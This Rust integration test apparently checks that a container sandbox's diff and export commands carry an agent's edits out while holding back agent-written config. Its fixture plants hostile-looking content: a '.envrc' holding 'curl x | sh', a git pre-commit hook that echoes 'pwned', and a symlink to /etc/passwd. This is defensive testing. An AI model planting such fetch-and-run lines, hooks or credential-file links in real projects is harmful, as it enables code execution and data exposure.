//! `diff` and `export` on a real bottle: the agent edits, adds, deletes,
//! writes a symlink, a `.envrc` and a git hook; the patch applies to a copy
//! of the workspace and reproduces the edits, the agent-written config and
//! hook are named but held back, the symlink never comes out, and a
//! stopped bottle exports the same work tree.

use crate::support::Engine;
use std::path::Path;
use std::process::Command;

#[test]
fn diff_and_export_get_the_work_out_and_hold_back_agent_config() {
    work_out(&Engine::default_docker());
}

#[test]
fn under_podman_diff_and_export_get_the_work_out() {
    if let Some(e) = crate::support::engine("podman") {
        work_out(&e);
    }
}

fn text(out: &std::process::Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn copy_dir(from: &Path, to: &Path) {
    let ok = Command::new("cp")
        .arg("-a")
        .arg(from)
        .arg(to)
        .status()
        .expect("cp");
    assert!(ok.success());
}

fn work_out(e: &Engine) {
    let dir = tempfile::tempdir().expect("tempdir");
    let home = dir.path().join("home");
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(ws.join("src")).expect("mkdir");
    std::fs::create_dir_all(ws.join(".git/hooks")).expect("mkdir");
    std::fs::write(ws.join("src/main.rs"), "fn main() {}\n").expect("write");
    std::fs::write(ws.join("keep.txt"), "keep\n").expect("write");
    std::fs::write(ws.join("gone.txt"), "bye\n").expect("write");
    let out = e.bottle(&home, Some(&ws), &["start", "shell", "--detach", "-y"]);
    let slug = text(&out).0.trim().to_string();
    assert!(out.status.success(), "{}", text(&out).1);
    let checks = std::panic::catch_unwind(|| {
        let edit = e.bottle(
            &home,
            Some(&ws),
            &[
                "exec",
                &slug,
                "--",
                "bash",
                "-c",
                "cd /workspace && printf 'fn main() {\\n    println!(\"hi\");\\n}\\n' > src/main.rs && rm gone.txt && echo new > new.txt && echo 'curl x | sh' > .envrc && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && ln -s /etc/passwd link",
            ],
        );
        assert!(edit.status.success(), "{}", text(&edit).1);

        let (patch, diff_err) = text(&e.bottle(&home, Some(&ws), &["diff", &slug]));
        assert!(
            patch.contains("+++ b/src/main.rs") && patch.contains("+curl x | sh"),
            "{patch}"
        );
        assert!(
            diff_err.contains("5 changed: 3 added, 1 modified, 1 deleted"),
            "{diff_err}"
        );
        assert!(
            diff_err.contains(".envrc") && diff_err.contains(".git/hooks/pre-commit"),
            "{diff_err}"
        );

        let exported = e.bottle(&home, Some(&ws), &["export", &slug, "--patch"]);
        let (patch, err) = text(&exported);
        assert!(exported.status.success(), "{err}");
        assert!(
            !patch.contains(".envrc") && !patch.contains("pwned"),
            "{patch}"
        );
        assert!(
            !patch.contains("/etc/passwd") && !patch.contains("root:"),
            "{patch}"
        );
        assert!(err.contains("left out link: symlink"), "{err}");
        let applied = dir.path().join("applied");
        copy_dir(&ws, &applied);
        std::fs::write(dir.path().join("p.patch"), &patch).expect("write");
        let apply = Command::new("git")
            .args(["apply", "../p.patch"])
            .current_dir(&applied)
            .output()
            .expect("git apply");
        assert!(apply.status.success(), "{}", text(&apply).1);
        assert_eq!(
            std::fs::read_to_string(applied.join("src/main.rs")).expect("read"),
            "fn main() {\n    println!(\"hi\");\n}\n"
        );
        assert!(!applied.join("gone.txt").exists() && applied.join("new.txt").exists());

        // Stopped: the same work tree comes out of the kept volume.
        assert!(e
            .bottle(&home, Some(&ws), &["stop", &slug])
            .status
            .success());
        let to = dir.path().join("out");
        let exported = e.bottle(
            &home,
            Some(&ws),
            &["export", &slug, "--to", to.to_str().expect("utf-8")],
        );
        let (_, err) = text(&exported);
        assert!(exported.status.success(), "{err}");
        assert!(to.join("new.txt").exists() && to.join("keep.txt").exists());
        assert!(!to.join("gone.txt").exists() && !to.join(".envrc").exists());
        assert!(!to.join(".git").exists() && std::fs::symlink_metadata(to.join("link")).is_err());
        assert!(
            err.contains("held back") && err.contains(".git/hooks/pre-commit"),
            "{err}"
        );
        let again = e.bottle(
            &home,
            Some(&ws),
            &["export", &slug, "--to", to.to_str().expect("utf-8")],
        );
        assert!(
            !again.status.success() && text(&again).1.contains("not empty"),
            "a non-empty destination is refused"
        );
        let label = format!("label=dev.bottle.slug={slug}");
        assert_eq!(
            e.cli(&["ps", "-aq", "--filter", &label]),
            "",
            "no export helper left behind"
        );
    });
    let rm = e.bottle(&home, Some(&ws), &["rm", &slug]);
    assert!(rm.status.success(), "{}", text(&rm).1);
    if let Err(p) = checks {
        std::panic::resume_unwind(p);
    }
}
